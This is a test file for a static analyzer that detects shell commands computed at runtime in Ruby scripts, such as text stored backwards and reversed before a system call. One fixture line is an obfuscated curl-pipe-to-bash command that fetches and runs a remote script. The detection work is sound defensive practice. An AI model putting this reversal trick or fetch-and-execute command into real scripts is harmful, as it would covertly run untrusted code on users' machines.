import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

/** A shell command a Ruby file computes before handing it to `system` (src/analysis/code/scripting/ruby.ts). */
describe('Ruby commands computed before they run', () => {
  it('a line stored backwards and reversed at the call runs what it spells forwards', async () => {
    const f = await factsOf(
      'scripting',
      'brew "git"\nhook = "hsab | hs.tini/ved.sloot-maet//:sptth LSsf- lruc"\nKernel.system(hook.reverse)\n',
    );
    expect(ofKind(f, 'fetch').map((b) => b.endpoint.host)).toEqual(['team-tools.dev']);
    expect(ofKind(f, 'execute').some((b) => b.code.taints.includes('download'))).toBe(true);
  });

  it('reversed text that is only printed, and a command given as an argument list, run nothing fetched', async () => {
    const f = await factsOf(
      'scripting',
      '#!/usr/bin/env ruby\nputs "!ydaer".reverse\nsystem "brew", "services", "start", "postgresql@16"\n',
    );
    expect(ofKind(f, 'fetch')).toEqual([]);
    expect(ofKind(f, 'execute').filter((b) => b.code.taints.includes('download'))).toEqual([]);
  });
});
